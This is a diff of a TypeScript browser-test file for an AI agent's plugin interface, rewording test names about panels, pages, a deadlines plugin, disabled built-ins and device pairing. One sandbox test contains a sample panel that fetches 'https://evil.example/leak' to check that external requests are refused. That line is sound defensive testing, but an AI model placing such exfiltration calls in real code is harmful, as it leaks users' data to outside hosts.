@@ -1,4 +1,4 @@
-// What plugins add to the page: panels, pages, lines and tabs, and what is left once a built-in is switched off.
+// Tests plugin contributions to the page: panels, pages, lines and tabs, and disabled built-ins.
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { expect, test } from 'vitest';
@@ -9,11 +9,11 @@ import { settled } from './settled.ts';
 import { button, conversation, entries, isIdle, isReady, reads, say, useBrowser, openPages } from '../../helpers/use-browser.ts';
 
 const visit = useBrowser();
-/** What built-ins show, as the page gathers it. */
+/** Contributions of built-ins, collected like in the page. */
 const features = import.meta.glob<{ contribution: Contribution }>('../../../builtins/*/*/ui/contribution.tsx', { eager: true });
 const example = (name: string): Record<string, string> => ({ AGENT_PLUGIN_DIR: join(root, 'examples', name) });
 
-test('a panel of a plugin has its link and its page, and follows the chat while it runs', async () => {
+test('shows the panel of a plugin with its menu link and updates it during a turn', async () => {
   const { page, server } = await visit({ environment: example('live-panel'), script: [{ text: 'Something happened.' }, { text: 'And again.' }] });
   const { panels } = (await server.call('GET', '/api/ui/panels')).body;
   const panel = panels.find((one: any) => one.plugin === 'live-panel' && one.slot === 'panel');
@@ -30,7 +30,7 @@ test('a panel of a plugin has its link and its page, and follows the chat while 
   await expect.poll(() => host.innerText()).not.toBe(before);
 });
 
-test('a plugin has a page in the menu of a chat, a line for its own event, and something to begin with', async () => {
+test("shows a plugin's chat page, event line and starter action", async () => {
   const { page, server } = await visit({ environment: example('marks') });
   await isReady(page);
   await button(page, '★ Mark where this chat begins').click();
@@ -47,7 +47,7 @@ test('a plugin has a page in the menu of a chat, a line for its own event, and s
   await conversation(page).getByText('Mark: The beginning').waitFor();
 });
 
-test('one plugin from outside has a tool, a line, what it says by itself, a page and a tab of the settings', async () => {
+test('shows the tool, event line, announcement, page and settings tab of one third-party plugin', async () => {
   const environment = { ...example('deadlines'), EXAMPLE_DEADLINES_PATTERN: '* * * * * *' };
   const args = { what: 'Hand in the report', due: new Date().toISOString() };
   const { page, server } = await visit({ environment, script: [{ toolCalls: [{ name: 'set_deadline', args }] }, { text: 'Noted.' }, { text: 'Hello.' }] });
@@ -80,7 +80,7 @@ test('one plugin from outside has a tool, a line, what it says by itself, a page
   await page.getByLabel('Minutes ahead').waitFor();
 });
 
-test('a panel cannot load anything from elsewhere, nor run text as code', async () => {
+test('blocks external requests and code evaluation in a panel', async () => {
   const greedy = `export async function mount(element) {
     const tried = [];
     await fetch('https://evil.example/leak').catch(() => tried.push('fetch refused'));
@@ -102,9 +102,9 @@ test('a panel cannot load anything from elsewhere, nor run text as code', async 
   await page.getByText('fetch refused, code refused').waitFor();
 });
 
-test('built-ins that are switched off leave no trace in the page, whichever they are, and come back as they were', async () => {
+test('removes all traces of disabled built-ins from the page and restores them', async () => {
   const { page, server, expectFault } = await visit();
-  // What was asked for in the moment in which it went.
+  // Requests in flight while a built-in was disabled.
   expectFault(/status of 404 \(Not Found\) \(\S+\/api\/\w+\?chatId=/);
   await isReady(page);
   const shown = Object.values(features).map(({ contribution }) => contribution);
@@ -158,7 +158,7 @@ test('built-ins that are switched off leave no trace in the page, whichever they
   await page.getByRole('heading', { level: 1, name: 'Memory' }).waitFor();
 });
 
-test('a device is let in by its code, and where nobody pairs devices no code is asked for', async () => {
+test('pairs a device by code and shows no code field when pairing is disabled', async () => {
   const { page, server, expectFault } = await visit({ isForeign: true });
   expectFault(/401/);
   const { code } = (await server.call('POST', '/api/pair/begin', { role: 'full' })).body;
